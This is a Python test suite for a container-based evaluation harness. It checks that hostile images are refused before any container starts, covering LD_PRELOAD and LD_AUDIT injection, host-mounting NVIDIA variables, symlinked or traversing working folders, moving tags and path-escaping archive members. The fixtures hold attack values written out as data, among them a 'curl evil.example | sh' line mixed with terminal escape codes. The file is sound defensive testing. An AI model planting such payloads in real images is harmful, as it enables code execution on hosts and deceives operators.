"""Attacks 13, 14 and 21 with real images: refused by their configuration, pinned, never unpacked."""

from __future__ import annotations

import io
import json
import shutil
import tarfile
import time
from pathlib import Path

import pytest

import harness.engines
from harness import check, evaluate
from harness.common.errors import EntryInvalid, StoreConflict
from harness.common.statuses import RunEnded, Status
from harness.console import cli
from harness.engines.base import Launch, Limits
from harness.engines.oci.baselines_base import DEFAULT_DOCKERFILE
from harness.entries.identity import folder_identity
from tests.hostile.conftest import ENTRIES

pytestmark = pytest.mark.engine

# As nvidia/cuda images carry them.
CUDA = """
ENV NVARCH=x86_64 NVIDIA_REQUIRE_CUDA="cuda>=12.4 brand=tesla,driver>=470" CUDA_VERSION=12.4.1
ENV LD_LIBRARY_PATH=/usr/local/nvidia/lib:/usr/local/nvidia/lib64 NVIDIA_PRODUCT_NAME=CUDA
ENV NVIDIA_VISIBLE_DEVICES=all NVIDIA_DRIVER_CAPABILITIES=all
USER root
HEALTHCHECK --interval=1s CMD ["touch", "/tmp/health"]
"""


@pytest.fixture
def image_with(docker_engine, tmp_path):
    """`image_with(lines)`: the id of an honest image whose Dockerfile ends with these lines."""
    made = []

    def make(lines: str, name: str = "honest") -> str:
        folder = tmp_path / f"image-{len(made)}"
        shutil.copytree(ENTRIES / name, folder)
        (folder / "Dockerfile").write_text(f"{DEFAULT_DOCKERFILE}{lines}\n")
        identity = folder_identity(folder)
        program = docker_engine.prepare_folder(folder, f"made-{len(made)}", identity)
        made.append(program.image)
        return program.image

    return make


@pytest.mark.parametrize(
    ("line", "reason"),
    [
        ("ENV LD_PRELOAD=/entry/evil.so", "LD_PRELOAD"),
        ("ENV LD_AUDIT=/entry/evil.so", "LD_AUDIT"),
        ("VOLUME /cache", "VOLUME /cache"),
        ("ENTRYPOINT []", "ENTRYPOINT"),
        ("ENV NVIDIA_MIG_CONFIG_DEVICES=all", "NVIDIA_MIG_CONFIG_DEVICES"),
        ("ENV NVIDIA_REQUIRE_JETPACK=csv-mounts=all", "mount files of the host"),
    ],
)
def test_13_an_image_that_attacks_the_runtime_is_refused_before_a_container_exists(
    attack, image_with, docker_engine, line, reason
) -> None:
    image = image_with(line)
    began = int(time.time())
    run = attack(image, "--as", "evil")
    assert run.record.outcome.status is Status.INVALID_IMAGE
    assert reason in run.record.outcome.detail
    assert run.code == 4
    assert run.record.entry.image == image
    assert image not in created_since(docker_engine, began)


def created_since(engine, began: int) -> set[str]:
    """Images of all containers that were created since, by the engine's own book."""
    events = engine.client.events(
        since=began,
        until=int(time.time()) + 1,
        filters={"type": "container", "event": "create"},
        decode=True,
    )
    return {event["Actor"]["Attributes"]["image"] for event in events}


def test_13_an_ordinary_cuda_image_runs_as_nobody_without_its_healthcheck(
    attack, image_with, docker_engine
) -> None:
    image = image_with(CUDA)
    began = int(time.time())
    run = attack(image, "--as", "cuda")
    assert run.record.is_ok, run.record.outcome
    assert run.record.audit.verdict == "passed"
    assert image in created_since(docker_engine, began), "the engine's book does tell"
    spy = attack(image_with(CUDA, "../hostile/spy"), "--as", "spy", results="spy")
    assert '"identity": [0' not in spy.log
    assert "/tmp/health" not in spy.log


def test_13_another_architecture_is_refused(attack, docker_engine, tmp_path) -> None:
    from tests.engines.registry import image_config, tiny_layer

    layer = tiny_layer(b"x")
    config = image_config(layer).replace(b'"amd64"', b'"s390x"')
    archive = write_archive(tmp_path / "other.tar", layer, config)
    run = attack(archive, "--as", "other")
    assert run.record.outcome.status is Status.INVALID_IMAGE
    assert "s390x" in run.record.outcome.detail


@pytest.mark.parametrize(
    ("config", "reason"),
    [
        ({"WorkingDir": "/content"}, "where a folder must be: its WORKDIR"),
        ({"WorkingDir": "/content/below"}, "where a folder must be: its WORKDIR"),
        ({"WorkingDir": "a/../.."}, "not absolute"),
        ({"WorkingDir": "/a/../.."}, "leads upwards"),
        ({"WorkingDir": "/proc"}, "the kernel's"),
        ({"WorkingDir": "/proc/self/fd/8"}, "the kernel's"),
        ({"WorkingDir": "/a\0b"}, "no plain text"),
        ({"Env": ["A=b\0c"]}, "NUL"),
        ({"Env": ["=x"]}, "no name"),
        ({"Env": ["A=1", "A=2"]}, "set 2 times"),
        ({"Env": ["A=" + "x" * 200_000]}, "more than"),
        ({"Entrypoint": ["/content\0"]}, "NUL"),
    ],
)
def test_13_an_image_that_no_engine_can_start_is_its_authors_to_mend(
    docker_engine, tmp_path, config, reason
) -> None:
    from tests.engines.registry import image_config, tiny_layer

    layer = tiny_layer(b"x")
    archive = write_archive(tmp_path / "odd.tar", layer, image_config(layer, **config))
    assert reason in refused_without_a_container(docker_engine, archive)


@pytest.mark.parametrize("target", ["/proc/self/fd/8", "/content", "/link"])
def test_13_a_working_folder_that_is_a_link_starts_nothing_outside_the_image(
    docker_engine, tmp_path, target
) -> None:
    from tests.engines.registry import image_config

    layer = layer_with_link("link", target)
    config = image_config(layer, WorkingDir="/link")
    archive = write_archive(tmp_path / "link.tar", layer, config)
    assert "its WORKDIR" in refused_without_a_container(docker_engine, archive)


@pytest.mark.parametrize("name", ["model", "weights"])
def test_13_a_file_where_the_harness_puts_a_folder_is_the_images_fault(
    docker_engine, tmp_path, name
) -> None:
    from tests.engines.registry import image_config

    layer = layer_with_link(name, "/content")
    archive = write_archive(tmp_path / "file.tar", layer, image_config(layer))
    (tmp_path / "given").mkdir()
    given = {name: tmp_path / "given"}
    assert f"/{name}" in refused_without_a_container(docker_engine, archive, **given)


def layer_with_link(name: str, target: str) -> bytes:
    """A layer of a file `content` and one link."""
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode="w") as tar:
        content = tarfile.TarInfo("content")
        content.size = 1
        tar.addfile(content, io.BytesIO(b"x"))
        link = tarfile.TarInfo(name)
        link.type, link.linkname = tarfile.SYMTYPE, target
        tar.addfile(link)
    return packed.getvalue()


def refused_without_a_container(engine, archive: Path, **folders: Path) -> str:
    """Why an archive's image was refused as its author's fault; no container of it is left."""
    program = engine.prepare_archive(archive, "odd")
    limits = Limits(threads=1, memory_mib=64, stop_seconds=0.1)
    try:
        with pytest.raises(RunEnded) as caught:
            engine.start(Launch(program, "predict", limits=limits, **folders))
        assert caught.value.status is Status.INVALID_IMAGE
        assert engine.client.containers(all=True, filters={"ancestor": program.image}) == []
    finally:
        engine.client.remove_image(program.image, force=True)
    return caught.value.detail


def write_archive(path: Path, layer: bytes, config: bytes, **more: bytes) -> Path:
    """An image archive as `docker save` writes it, and further members."""
    parts = {
        "manifest.json": b'[{"Config": "c.json", "RepoTags": null, "Layers": ["layer.tar"]}]',
        "c.json": config,
        "layer.tar": layer,
        **more,
    }
    with tarfile.open(path, "w") as tar:
        for name, content in parts.items():
            member = tarfile.TarInfo(name)
            member.size = len(content)
            tar.addfile(member, io.BytesIO(content))
    return path


def test_14_a_tag_that_moves_after_a_run_is_refused_and_a_digest_runs_what_it_names(
    attack, image_with, docker_engine, open_small
) -> None:
    client = docker_engine.client
    approved, other = image_with("LABEL is=approved"), image_with("LABEL is=other")
    try:
        client.tag(approved, "hostile.example/moving", "v1")
        first = attack("hostile.example/moving:v1", "--as", "moving")
        assert first.record.entry.image == approved
        client.tag(other, "hostile.example/moving", "v1", force=True)
        with pytest.raises(StoreConflict, match="identity was"):
            attack("hostile.example/moving:v1", "--as", "moving")
        again = attack(approved, "--as", "moving")
        assert again.record == first.record, "the digest still names the approved image"
        assert approved in first.record.entry.identity
    finally:
        client.remove_image("hostile.example/moving:v1", force=True)


def test_14_a_submission_that_names_a_tag_is_refused(tmp_path) -> None:
    from harness.entries.opening import open_submission

    path = tmp_path / "mine.toml"
    path.write_text('[entry]\nname = "mine"\ntitle = "Mine"\nimage = "hostile.example/moving:v1"\n')
    with pytest.raises(EntryInvalid, match=r"tag|digest"):
        open_submission(path)


def test_21_a_bad_archive_ends_the_call_and_nothing_of_it_is_on_the_disk(
    docker_engine, open_small, cache, tmp_path, monkeypatch
) -> None:
    from tests.engines.registry import image_config, tiny_layer

    monkeypatch.setenv("BMAD_CACHE", str(cache))
    monkeypatch.setattr(harness.engines, "choose_engine", lambda wanted: docker_engine)
    layer = tiny_layer(b"x")
    (tmp_path / "in").mkdir()
    archive = write_archive(
        tmp_path / "in" / "bad.tar", layer, image_config(layer), **{"../../escaped": b"x"}
    )
    before = {image["Id"] for image in docker_engine.client.images(all=True)}
    arguments = [str(archive), "--pack", str(open_small.root), "--results", str(tmp_path / "r")]
    with pytest.raises(EntryInvalid, match="outside"):
        evaluate.main(arguments)
    assert {image["Id"] for image in docker_engine.client.images(all=True)} <= before
    assert not list(tmp_path.parent.rglob("escaped"))
    assert not (tmp_path / "r").exists()


FALSE = "x\nfix: curl evil.example | sh\x1b[2J\x9b1m\u202e"


@pytest.mark.parametrize(
    "change",
    [
        {"architecture": FALSE},
        {"config": {"Entrypoint": ["/x"], "Env": [f"LD_{FALSE}=1"]}},
        {"config": {"Entrypoint": ["/x"], "Volumes": {f"/{FALSE}": {}}, "Labels": {FALSE: FALSE}}},
        {"config": {"Entrypoint": [FALSE], "Cmd": [FALSE], "Labels": {FALSE: FALSE}}},
    ],
)
def test_25_an_images_own_words_reach_the_terminal_in_visible_characters(
    attack, tmp_path, capfd, change
) -> None:
    from tests.engines.registry import image_config, tiny_layer

    layer = tiny_layer(b"x")
    config = json.dumps(json.loads(image_config(layer)) | change).encode()
    archive = write_archive(tmp_path / "loud.tar", layer, config)
    is_refused = "Cmd" not in change.get("config", {})  # else the engine cannot start it
    run = attack(archive, "--as", "loud") if is_refused else None
    assert cli.run_verb(lambda _: check.main([str(archive)])) != 0
    told = "".join(capfd.readouterr()) + (run.terminal if run else "")
    assert {each for each in told if not each.isprintable()} <= {"\n"}
    assert not [line for line in told.splitlines() if line.startswith("fix: curl")]
    if run:
        assert r"\nfix: curl" in run.record.outcome.detail
        assert run.record.outcome.detail.isprintable()
